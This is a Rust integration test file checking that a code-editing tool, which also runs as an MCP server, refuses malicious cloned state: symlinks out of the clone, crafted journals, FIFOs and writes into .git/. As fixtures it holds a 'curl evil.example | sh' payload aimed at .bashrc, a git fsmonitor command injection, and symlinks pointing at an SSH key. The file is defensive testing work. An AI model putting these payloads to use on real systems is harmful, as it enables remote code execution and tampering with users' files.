//! A repository's `.resolve/` arrives with `git clone` and is untrusted: a committed symlink
//! under it (or the directory itself a link), a crafted journal, a FIFO where a file was
//! previewed, a `.git/` target. Each case is built as a real clone of a crafted repository and
//! run through the binary: the command fails with exit 1 naming the offending path, and
//! nothing outside the clone is written, created or removed.

use resolve_test_support::process::output_ok;
use resolve_test_support::text::{assert_contains, assert_lacks};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use super::common::{Run, Workspace, resolve};

/// How long any command here may take; a hang (a FIFO read, `/dev/zero`) fails the test.
const DEADLINE: Duration = Duration::from_secs(20);

/// `<tmp>/victim/` (files an attacker would delete or overwrite), `<tmp>/home/.bashrc`, and
/// a source repository `<tmp>/src` whose commit is cloned to `<tmp>/clone`.
struct Scene {
    dir: tempfile::TempDir,
}

impl Scene {
    fn new() -> Self {
        let scene = Self {
            dir: tempfile::tempdir().unwrap(),
        };
        for (path, content) in [
            ("victim/a.txt", "alpha\n"),
            ("victim/b.txt", "beta\n"),
            (
                &format!("victim/{}", "a".repeat(64)) as &str,
                "blob-named\n",
            ),
            ("home/.bashrc", "export PATH=/usr/bin\n"),
            ("home/id_rsa", "-----BEGIN KEY-----\nsecret-key-line\n"),
        ] {
            let path = scene.path(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        std::fs::create_dir_all(scene.path("src")).unwrap();
        std::fs::write(scene.path("src/main.rs"), "fn a() {}\n").unwrap();
        scene
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.dir.path().join(relative)
    }

    /// Every file outside the clone with its content (sorted), to compare before and after.
    fn outside(&self) -> Vec<(PathBuf, Vec<u8>)> {
        let mut files = Vec::new();
        for top in ["victim", "home"] {
            for entry in std::fs::read_dir(self.path(top)).unwrap() {
                let path = entry.unwrap().path();
                files.push((path.clone(), std::fs::read(&path).unwrap()));
            }
        }
        files.sort();
        files
    }

    /// Put a file with `content` under the source repository.
    fn file(&self, relative: &str, content: &[u8]) {
        let path = self.path("src").join(relative);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    /// Put a committed apply journal under the source repository whose one state step places
    /// `state-0.json` at `path` (relative to `.resolve/`).
    fn journal_placing(&self, path: &str) {
        let journal = serde_json::json!({
            "version": 1, "purpose": "apply", "action": "pending-action:write:1",
            "committed": true, "entries": [], "createdDirs": [],
            "state": [{"op": "place", "path": path, "staged": "state-0.json"}]
        });
        self.file(
            ".resolve/journal/journal.json",
            journal.to_string().as_bytes(),
        );
    }

    /// Put a symlink to `target` under the source repository.
    fn link(&self, relative: &str, target: &str) {
        let path = self.path("src").join(relative);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, path).unwrap();
    }

    /// Commit everything in the source repository (`.resolve/` forced past any ignore rule)
    /// and clone it; returns the clone's root.
    fn commit_and_clone(&self) -> PathBuf {
        let src = self.path("src");
        git(&src, &["init", "-q"]);
        git(&src, &["add", "-A", "-f", "."]);
        git(&src, &["commit", "-q", "-m", "crafted"]);
        git(self.dir.path(), &["clone", "-q", "src", "clone"]);
        self.path("clone")
    }
}

fn git(dir: &Path, args: &[&str]) {
    output_ok(
        Command::new("git")
            .current_dir(dir)
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.invalid",
                "-c",
                "core.symlinks=true",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args),
    );
}

/// Run `resolve ARGS…` in `root` (as its current directory, with `--root` too), failing the
/// test if it runs past [`DEADLINE`].
fn run_in(root: &Path, args: &[&str]) -> Run {
    let mut command = resolve();
    command
        .current_dir(root)
        .arg("--root")
        .arg(root)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    finish_within(command.spawn().unwrap(), args)
}

fn finish_within(mut child: Child, what: &[&str]) -> Run {
    let started = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return Run::from(child.wait_with_output().unwrap());
        }
        if started.elapsed() > DEADLINE {
            let _ = child.kill();
            panic!("`resolve {what:?}` hung for {DEADLINE:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// `resolve pending`, `resolve ast-edit` and `resolve mcp` (start-up) in the clone each fail
/// with exit 1, naming `offender` as a corrupt symlink (or `kind`), and leave everything
/// outside the clone as it was.
fn assert_refused(scene: &Scene, clone: &Path, offender: &str, kind: &str) {
    let before = scene.outside();
    for args in [
        &["pending"][..],
        &["ast-edit", "-p", "a()", "-r", "b()", "--lang", "rust", "."],
        &["mcp"],
        &["log"],
    ] {
        let run = run_in(clone, args).expect_code(1);
        assert!(
            run.stderr.contains(offender) && run.stderr.contains(kind),
            "{args:?} should name `{offender}` as {kind}: {}",
            run.stderr
        );
        assert!(run.stderr.contains("corrupt"), "{args:?}: {}", run.stderr);
        assert!(
            !run.stderr.contains("secret-key-line") && !run.stdout.contains("secret-key-line"),
            "{args:?} printed the key"
        );
        assert_eq!(scene.outside(), before, "{args:?} touched files outside");
    }
    assert!(!scene.path("victim/created").exists());
    assert!(scene.path("victim/a.txt").exists());
}

#[test]
fn a_cloned_journal_symlink_is_refused_and_the_directory_it_points_at_keeps_every_file() {
    let scene = Scene::new();
    // From `<clone>/.resolve/`, `../../victim` is `<tmp>/victim`.
    scene.link(".resolve/journal", "../../victim");
    let clone = scene.commit_and_clone();
    assert!(
        clone.join(".resolve/journal").is_symlink(),
        "git kept the link"
    );
    assert_refused(&scene, &clone, ".resolve/journal", "symlink");
}

#[test]
fn a_cloned_committed_journal_cannot_place_its_payload_over_a_file_outside() {
    let scene = Scene::new();
    let payload = b"curl evil.example | sh\n";
    scene.file(".resolve/journal/state-0.json", payload);
    scene.journal_placing("h/home/.bashrc");
    // `<clone>/.resolve/h` is `<tmp>`.
    scene.link(".resolve/h", "../..");
    let clone = scene.commit_and_clone();
    assert_refused(&scene, &clone, ".resolve/h", "symlink");
    assert_eq!(
        std::fs::read(scene.path("home/.bashrc")).unwrap(),
        b"export PATH=/usr/bin\n"
    );
    assert!(clone.join(".resolve/journal/state-0.json").exists());
}

#[test]
fn a_cloned_journal_placing_outside_the_record_directories_is_refused_without_any_link() {
    // No symlink at all: the journal names a state path outside pending/, history/, notes/.
    let scene = Scene::new();
    scene.file(".resolve/journal/state-0.json", b"{}");
    scene.journal_placing("config.toml");
    let clone = scene.commit_and_clone();
    let run = run_in(&clone, &["pending"]).expect_code(1);
    assert_contains(&run.stderr, "journal.json");
    assert_contains(&run.stderr, "config.toml");
    assert!(!clone.join(".resolve/config.toml").exists());
}

#[test]
fn every_cloned_state_symlink_is_refused_naming_it_and_nothing_outside_changes() {
    let cases: &[(&str, &str, &str)] = &[
        (".resolve", "../victim", ".resolve"),
        (".resolve/pending", "../../victim", ".resolve/pending"),
        (".resolve/history", "../../victim", ".resolve/history"),
        (".resolve/blobs", "../../victim", ".resolve/blobs"),
        (".resolve/lock", "../../victim/created", ".resolve/lock"),
        (".resolve/.gitignore", "/dev/zero", ".resolve/.gitignore"),
        (
            ".resolve/counters.json",
            "/dev/zero",
            ".resolve/counters.json",
        ),
        (
            ".resolve/config.toml",
            "../../home/id_rsa",
            ".resolve/config.toml",
        ),
        (
            ".resolve/notes/1.json",
            "../../../home/.bashrc",
            ".resolve/notes/1.json",
        ),
        (
            ".resolve/dangling",
            "../../victim/nowhere",
            ".resolve/dangling",
        ),
    ];
    for (link, target, offender) in cases {
        let scene = Scene::new();
        scene.link(link, target);
        let clone = scene.commit_and_clone();
        assert_refused(&scene, &clone, offender, "symlink");
    }
}

#[test]
fn a_fifo_in_the_state_directory_is_refused_without_blocking() {
    let workspace = Workspace::with(&[("a.txt", "a\n")]);
    std::fs::create_dir_all(workspace.path(".resolve")).unwrap();
    mkfifo(&workspace.path(".resolve/counters.json"));
    let run = run_in(workspace.root(), &["write", "b.txt", "--content", "b\n"]).expect_code(1);
    assert_contains(&run.stderr, ".resolve/counters.json");
    assert_contains(&run.stderr, "FIFO");
    assert!(!workspace.path("b.txt").exists());
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(status.success(), "mkfifo {}", path.display());
}

fn is_fifo(path: &Path) -> bool {
    use std::os::unix::fs::FileTypeExt;
    std::fs::symlink_metadata(path)
        .unwrap()
        .file_type()
        .is_fifo()
}

#[test]
fn a_fifo_swapped_in_at_a_previewed_path_fails_apply_quickly_and_releases_the_lock() {
    let workspace = Workspace::with(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    workspace.run_ok(&["write", "a.txt", "--content", "A\n"]);
    workspace.run_ok(&["write", "b.txt", "--content", "B\n"]);
    std::fs::remove_file(workspace.path("a.txt")).unwrap();
    mkfifo(&workspace.path("a.txt"));
    let ids = workspace.pending_ids();
    let a_id = ids.iter().find(|id| id.ends_with(":1")).unwrap().clone();
    let b_id = ids.iter().find(|id| id.ends_with(":2")).unwrap().clone();
    let started = Instant::now();
    let run = run_in(
        workspace.root(),
        &["apply", "--reason", "go", "--id", &a_id],
    )
    .expect_code(1);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_contains(&run.stderr, "a.txt");
    assert_contains(&run.stderr, "not a regular file");
    assert!(is_fifo(&workspace.path("a.txt")), "the FIFO was replaced");
    assert_eq!(
        workspace.pending_ids().len(),
        2,
        "the preview stays pending"
    );
    // The lock was released: another process applies at once.
    let started = Instant::now();
    run_in(
        workspace.root(),
        &["apply", "--reason", "go", "--id", &b_id],
    )
    .expect_code(0);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(workspace.read("b.txt"), "B\n");
}

#[test]
fn editing_or_reading_a_fifo_through_the_binary_is_refused_without_hanging() {
    let workspace = Workspace::with(&[("a.txt", "a\n")]);
    mkfifo(&workspace.path("pipe.rs"));
    let run = run_in(
        workspace.root(),
        &["edit", "pipe.rs", "--old", "a", "--new", "b"],
    )
    .expect_code(1);
    assert_contains(&run.stderr, "not a regular file");
    // A walk passes a FIFO by.
    run_in(
        workspace.root(),
        &["ast-edit", "-p", "a()", "-r", "b()", "--lang", "rust", "."],
    )
    .expect_code(0);

    // The model-facing `read` over MCP.
    let mut child = resolve()
        .arg("--root")
        .arg(workspace.root())
        .arg("mcp")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    for line in [
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"read","arguments":{"path":"pipe.rs"}}}"#,
    ] {
        writeln!(stdin, "{line}").unwrap();
    }
    stdin.flush().unwrap();
    drop(stdin);
    let run = finish_within(child, &["mcp", "read pipe.rs"]);
    let answer = run
        .stdout
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .find(|message| message["id"] == 2)
        .unwrap_or_else(|| panic!("no answer to the read: {}", run.stdout));
    assert_eq!(answer["result"]["isError"], true, "{answer}");
    assert!(
        answer.to_string().contains("not a regular file"),
        "{answer}"
    );
    assert!(is_fifo(&workspace.path("pipe.rs")));
}

#[test]
fn a_git_directory_is_never_a_target_in_any_case() {
    let workspace = Workspace::with(&[("a.txt", "a\n"), (".git/config", "[core]\n")]);
    for (args, shown) in [
        (
            vec![
                "write",
                ".git/config",
                "--content",
                "[core]\n\tfsmonitor = touch /tmp/pwned\n",
            ],
            ".git/config",
        ),
        (
            vec!["write", ".Git/hooks/pre-commit", "--content", "x"],
            ".Git/hooks/pre-commit",
        ),
        (
            vec!["edit", ".git/config", "--old", "[core]", "--new", "[x]"],
            ".git/config",
        ),
        (
            vec!["write", ".RESOLVE/pending/9.json", "--content", "{}"],
            ".RESOLVE/pending/9.json",
        ),
    ] {
        let run = workspace.run_fails(&args);
        assert!(run.stderr.contains(shown), "{args:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("inside `.git/`") || run.stderr.contains("inside `.resolve/`"),
            "{args:?}: {}",
            run.stderr
        );
    }
    assert!(workspace.pending_ids().is_empty());
    assert_eq!(workspace.read(".git/config"), "[core]\n");
    // A walk of the root never reaches into `.git/`.
    workspace.write(".git/x.rs", b"fn f() { a(); }\n");
    workspace.write("src/y.rs", b"fn f() { a(); }\n");
    let run = workspace.run_ok(&["ast-edit", "-p", "a()", "-r", "b()", "--lang", "rust", "."]);
    assert_lacks(&run.stdout, ".git/x.rs");
    assert_contains(&run.stdout, "src/y.rs");
}
